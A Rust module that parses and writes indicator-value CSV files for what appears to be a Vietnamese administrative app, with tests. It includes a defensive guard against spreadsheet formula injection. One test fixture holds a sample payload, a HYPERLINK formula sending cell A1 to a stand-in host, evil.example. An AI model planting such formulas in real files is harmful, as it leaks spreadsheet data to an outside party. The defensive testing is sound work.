//! Indicator values in long CSV format: one row per unit, year and indicator.
//!
//! Columns (header names, English or Vietnamese without diacritics): `unit` (or
//! `unit_code`, `ma_don_vi`), `year` (`nam`), `indicator` (`indicator_id`, `chi_tieu`),
//! `value` (`gia_tri`), optional `note` (`ghi_chu`); other columns (a unit name, say) are
//! ignored. This module only reads the file; whether a unit, indicator or value is valid
//! is decided by the app against the registry and the criteria sets.

use std::fmt;

use ntm_core::value::{Convention, Value};

/// One data row, with where it stands in the file: `line` orders rows (the header of a
/// CSV is line 1), `place` says it to users ("dòng 5", "trang “Số liệu”, ô D7").
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ValueRow {
    pub line: usize,
    pub place: String,
    pub unit: String,
    pub year: String,
    pub indicator: String,
    pub value: String,
    pub note: Option<String>,
    /// The file says nothing of the note (it has no note column, or it is a template,
    /// which carries values only): the stored note stays as it is.
    pub keeps_note: bool,
}

/// A problem with the file as a whole or with one row's shape.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ValueFileProblem {
    pub line: Option<usize>,
    pub message: String,
}

impl fmt::Display for ValueFileProblem {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self.line {
            Some(l) => write!(f, "dòng {l}: {}", self.message),
            None => f.write_str(&self.message),
        }
    }
}

const UNIT: &[&str] = &["unit", "unit_code", "ma_don_vi", "ma_dv"];
const YEAR: &[&str] = &["year", "nam"];
const INDICATOR: &[&str] = &["indicator", "indicator_id", "chi_tieu", "ma_chi_tieu"];
const VALUE: &[&str] = &["value", "gia_tri"];
const NOTE: &[&str] = &["note", "ghi_chu"];

/// The number convention a file declares on its first line, `# numbers: vi-VN` or
/// `# numbers: en-US` (also `# số: …`), and the text after that line; none declared:
/// [`Convention::Either`], which refuses numbers the two read differently.
fn declared_convention(text: &str) -> (Convention, &str, usize) {
    let first = text.lines().next().unwrap_or("");
    let Some(comment) = first.trim().strip_prefix('#') else {
        return (Convention::Either, text, 0);
    };
    let said = ntm_core::text::search_key(comment).replace(' ', "");
    let convention = if said.contains("vi-vn") {
        Convention::Vietnamese
    } else if said.contains("en-us") {
        Convention::English
    } else {
        Convention::Either
    };
    let rest = text.split_once('\n').map_or("", |(_, r)| r);
    (convention, rest, 1)
}

/// A value written under a declared convention, as the plain decimal every reader takes;
/// words (`đạt`) and values of an undeclared file pass as they are.
fn in_convention(value: &str, convention: Convention) -> Result<String, String> {
    let numeric = value.chars().any(|c| c.is_ascii_digit())
        && value
            .chars()
            .all(|c| c.is_ascii_digit() || ".,-+ ".contains(c));
    if convention == Convention::Either || !numeric {
        return Ok(value.to_owned());
    }
    Value::parse_number_as(value, convention)
        .map(|d| d.normalize().to_string())
        .map_err(|_| {
            let example = match convention {
                Convention::Vietnamese => "1.200,5",
                _ => "1,200.5",
            };
            format!(
                "cột value: “{value}” không phải là số viết như tệp đã khai báo (ví dụ {example})"
            )
        })
}

/// Reads a values CSV. Bytes that are not UTF-8 (files saved in TCVN3 or VNI by old
/// software) are refused with an explanation rather than read as garbage.
pub fn parse_values(bytes: &[u8]) -> Result<Vec<ValueRow>, Vec<ValueFileProblem>> {
    let text = std::str::from_utf8(bytes).map_err(|e| {
        let line = bytes[..e.valid_up_to()].iter().filter(|&&b| b == b'\n').count() + 1;
        vec![ValueFileProblem {
            line: Some(line),
            message: "tệp không phải mã UTF-8 (có thể được lưu bằng bảng mã TCVN3/VNI cũ); hãy lưu lại dưới dạng “CSV UTF-8”".into(),
        }]
    })?;
    let text = text.strip_prefix('\u{feff}').unwrap_or(text);
    let (convention, text, skipped) = declared_convention(text);
    if text.trim().is_empty() {
        return Err(vec![ValueFileProblem {
            line: None,
            message: "tệp rỗng".into(),
        }]);
    }
    let delimiter = if text
        .lines()
        .next()
        .is_some_and(|h| h.contains(';') && !h.contains(','))
    {
        b';'
    } else {
        b','
    };
    let mut rdr = csv::ReaderBuilder::new()
        .delimiter(delimiter)
        .flexible(true)
        .trim(csv::Trim::All)
        .from_reader(text.as_bytes());
    let headers: Vec<String> = match rdr.headers() {
        Ok(h) => h
            .iter()
            .map(|h| ntm_core::text::search_key(h).replace(' ', "_"))
            .collect(),
        Err(e) => {
            return Err(vec![ValueFileProblem {
                line: Some(1),
                message: format!("không đọc được dòng tiêu đề: {e}"),
            }]);
        }
    };
    let find = |names: &[&str]| headers.iter().position(|h| names.contains(&h.as_str()));
    let (Some(c_unit), Some(c_year), Some(c_ind), Some(c_val)) =
        (find(UNIT), find(YEAR), find(INDICATOR), find(VALUE))
    else {
        return Err(vec![ValueFileProblem {
            line: Some(1),
            message:
                "dòng tiêu đề phải có các cột unit, year, indicator, value (và note nếu có ghi chú)"
                    .into(),
        }]);
    };
    let c_note = find(NOTE);
    let mut rows = Vec::new();
    let mut problems = Vec::new();
    for (n, record) in rdr.records().enumerate() {
        let line = n + 2 + skipped;
        let record = match record {
            Ok(r) => r,
            Err(e) => {
                problems.push(ValueFileProblem {
                    line: Some(line),
                    message: format!("dòng không đúng định dạng CSV: {e}"),
                });
                continue;
            }
        };
        if record.iter().all(str::is_empty) {
            continue;
        }
        // More fields than the header names is never a row to guess at: in a
        // comma-separated file "12,5" is two fields, and the value would silently become
        // 12 with a note of 5.
        if record.len() > headers.len() {
            let sep = if delimiter == b';' { ";" } else { "," };
            problems.push(ValueFileProblem {
                line: Some(line),
                message: format!(
                    "dòng có {} ô, nhiều hơn {} cột của dòng tiêu đề; nếu số có dấu phẩy thập phân \
                     (như 12,5) trong tệp phân cách bằng “{sep}”, hãy đặt số trong ngoặc kép (\"12,5\"), \
                     viết 12.5, hoặc lưu tệp phân cách bằng dấu chấm phẩy",
                    record.len(),
                    headers.len()
                ),
            });
            continue;
        }
        let get = |i: usize| record.get(i).unwrap_or("").to_owned();
        // "12,5" split by the comma into value 12 and note 5 looks like any other row;
        // a whole number followed by a note of digits only is asked about, not stored.
        if delimiter == b','
            && let Some(n) = c_note
            && c_note == Some(c_val + 1)
        {
            let (value, note) = (get(c_val), get(n));
            let whole = |s: &str| {
                let s = s.strip_prefix('-').unwrap_or(s);
                !s.is_empty() && s.chars().all(|c| c.is_ascii_digit())
            };
            if whole(&value) && whole(&note) {
                problems.push(ValueFileProblem {
                    line: Some(line),
                    message: format!(
                        "giá trị {value} và ghi chú {note}: có phải số {value},{note} bị dấu phẩy tách đôi? \
                         Hãy đặt số trong ngoặc kép (\"{value},{note}\") hoặc viết {value}.{note}; \
                         nếu ghi chú đúng là “{note}”, hãy thêm chữ vào ghi chú"
                    ),
                });
                continue;
            }
        }
        let value = match in_convention(&get(c_val), convention) {
            Ok(v) => v,
            Err(message) => {
                problems.push(ValueFileProblem {
                    line: Some(line),
                    message,
                });
                continue;
            }
        };
        let note = c_note
            .map(get)
            .filter(|n| !n.is_empty())
            .map(|n| unneutralized(&n).to_owned());
        rows.push(ValueRow {
            line,
            place: format!("dòng {line}"),
            unit: get(c_unit),
            year: get(c_year),
            indicator: get(c_ind),
            value,
            note,
            keeps_note: c_note.is_none(),
        });
    }
    if rows.is_empty() && problems.is_empty() {
        problems.push(ValueFileProblem {
            line: None,
            message: "tệp không có dòng số liệu nào".into(),
        });
    }
    if problems.is_empty() {
        Ok(rows)
    } else {
        Err(problems)
    }
}

/// Characters that make a spreadsheet read a cell as a formula (OWASP's list).
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// A user-written cell as a CSV carries it: one that a spreadsheet would run as a formula
/// (`=HYPERLINK(…)`, `+`, `-`, `@`, tab, CR first) gets a leading `'`, which Excel shows
/// as text and [`parse_values`] removes again.
pub fn neutralized(cell: &str) -> std::borrow::Cow<'_, str> {
    if cell.starts_with(FORMULA_STARTS)
        || (cell.starts_with('\'') && cell[1..].starts_with(FORMULA_STARTS))
    {
        std::borrow::Cow::Owned(format!("'{cell}"))
    } else {
        std::borrow::Cow::Borrowed(cell)
    }
}

/// The cell a neutralized one stood for.
fn unneutralized(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if rest.starts_with(FORMULA_STARTS) || rest.starts_with('\'') => rest,
        _ => cell,
    }
}

/// Writes values in the same long format, so an export re-imports unchanged. Notes are
/// [`neutralized`]: opened in a spreadsheet, no cell is a live formula.
pub fn write_values(rows: &[ValueRow]) -> String {
    let mut w = csv::Writer::from_writer(Vec::new());
    w.write_record(["unit", "year", "indicator", "value", "note"])
        .expect("writing to memory");
    for r in rows {
        w.write_record([
            r.unit.as_str(),
            r.year.as_str(),
            r.indicator.as_str(),
            r.value.as_str(),
            &neutralized(r.note.as_deref().unwrap_or("")),
        ])
        .expect("writing to memory");
    }
    String::from_utf8(w.into_inner().expect("writing to memory"))
        .expect("csv writes the UTF-8 it was given")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_file_may_declare_how_it_writes_numbers() {
        let vi = "# numbers: vi-VN\nunit;year;indicator;value\n18757;2022;3.1;1.200\n18757;2022;3.2;12,5\n18757;2022;7;đạt\n";
        let rows = parse_values(vi.as_bytes()).unwrap();
        let values: Vec<&str> = rows.iter().map(|r| r.value.as_str()).collect();
        assert_eq!(values, ["1200", "12.5", "đạt"]);
        assert_eq!(rows[0].line, 3, "lines count the declaration");
        let en = "# số: en-US\nunit,year,indicator,value\n18757,2022,3.1,\"1,200\"\n18757,2022,3.2,12.5\n";
        let rows = parse_values(en.as_bytes()).unwrap();
        assert_eq!(rows[0].value, "1200");
        assert_eq!(rows[1].value, "12.5");
        let wrong = "# numbers: vi-VN\nunit;year;indicator;value\n18757;2022;3.1;1.20\n";
        let problems = parse_values(wrong.as_bytes()).unwrap_err();
        assert_eq!(problems[0].line, Some(3));
        assert!(
            problems[0].message.contains("1.200,5"),
            "{}",
            problems[0].message
        );
        // Undeclared, the value is passed on as written (the app refuses 1.200 with both
        // readings).
        let rows = parse_values(b"unit;year;indicator;value\n18757;2022;3.1;1.200\n").unwrap();
        assert_eq!(rows[0].value, "1.200");
    }

    #[test]
    fn a_row_with_more_fields_than_the_header_is_refused_not_guessed() {
        let problems =
            parse_values(b"unit,year,indicator,value,note\n18757,2022,I1,12,5,\n").unwrap_err();
        assert_eq!(problems[0].line, Some(2));
        assert!(
            problems[0].message.contains("6 ô, nhiều hơn 5 cột"),
            "{}",
            problems[0].message
        );
        let problems =
            parse_values(b"unit,year,indicator,value\n18757,2022,I1,12,5\n").unwrap_err();
        assert!(
            problems[0].message.contains("ngoặc kép"),
            "{}",
            problems[0].message
        );
        let rows = parse_values(b"unit,year,indicator,value\n18757,2022,I1,\"12,5\"\n").unwrap();
        assert_eq!(rows[0].value, "12,5", "quoted, it is one field");
        // With a note column, the split looks like a row: asked about, not stored.
        let problems =
            parse_values(b"unit,year,indicator,value,note\n18757,2022,I1,12,5\n").unwrap_err();
        assert!(
            problems[0].message.contains("12,5"),
            "{}",
            problems[0].message
        );
        let rows =
            parse_values(b"unit,year,indicator,value,note\n18757,2022,I1,12,5 ho\n").unwrap();
        assert_eq!(
            rows[0].note.as_deref(),
            Some("5 ho"),
            "a note with words is a note"
        );
    }

    #[test]
    fn no_exported_note_is_a_live_formula_and_each_comes_back_as_written() {
        let notes = [
            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Bấm\")",
            "+1+1",
            "-2",
            "@SUM(A1)",
            "\tthẻ",
            "\rdòng",
            "'=đã có dấu nháy",
            "'thường",
            "bình thường",
            "a=b",
        ];
        let rows: Vec<ValueRow> = notes
            .iter()
            .map(|n| ValueRow {
                line: 0,
                place: String::new(),
                unit: "18415".into(),
                year: "2021".into(),
                indicator: "3.1".into(),
                value: "85".into(),
                note: Some((*n).into()),
                keeps_note: false,
            })
            .collect();
        let csv = write_values(&rows);
        let mut rdr = csv::Reader::from_reader(csv.as_bytes());
        for record in rdr.records() {
            let note = record.unwrap()[4].to_owned();
            assert!(!note.starts_with(FORMULA_STARTS), "live: {note:?}");
        }
        let back = parse_values(csv.as_bytes()).unwrap();
        let back: Vec<&str> = back.iter().map(|r| r.note.as_deref().unwrap()).collect();
        assert_eq!(back, notes);
    }

    #[test]
    fn reads_english_and_vietnamese_headers_with_bom_and_semicolons() {
        let rows = parse_values(
            "\u{feff}Mã đơn vị;Năm;Chỉ tiêu;Giá trị;Ghi chú\n18415;2021;3.1;85,5;đo đạc\n"
                .as_bytes(),
        )
        .unwrap();
        assert_eq!(rows[0].unit, "18415");
        assert_eq!(rows[0].value, "85,5");
        assert_eq!(rows[0].note.as_deref(), Some("đo đạc"));
        let rows = parse_values(b"unit,year,indicator,value\n18415,2021,3.1,85\n").unwrap();
        assert_eq!((rows[0].line, rows[0].note.clone()), (2, None));
    }

    #[test]
    fn refuses_legacy_encodings_empty_files_and_missing_columns() {
        let latin1 = b"unit,year,indicator,value\n18415,2021,3.1,\xe0\xe1\n";
        assert!(
            parse_values(latin1).unwrap_err()[0]
                .message
                .contains("UTF-8")
        );
        assert!(parse_values(b"").unwrap_err()[0].message.contains("rỗng"));
        assert!(
            parse_values(b"a,b\n1,2\n").unwrap_err()[0]
                .message
                .contains("dòng tiêu đề")
        );
        assert!(
            parse_values(b"unit,year,indicator,value\n").unwrap_err()[0]
                .message
                .contains("không có dòng")
        );
    }

    #[test]
    fn written_values_read_back_identically() {
        let rows = vec![ValueRow {
            line: 2,
            place: "dòng 2".into(),
            unit: "18073@2025-07-01".into(),
            year: "2026".into(),
            indicator: "3.1".into(),
            value: "85.5".into(),
            note: Some("có dấu phẩy, và \"ngoặc\"".into()),
            keeps_note: false,
        }];
        assert_eq!(parse_values(write_values(&rows).as_bytes()).unwrap(), rows);
    }
}
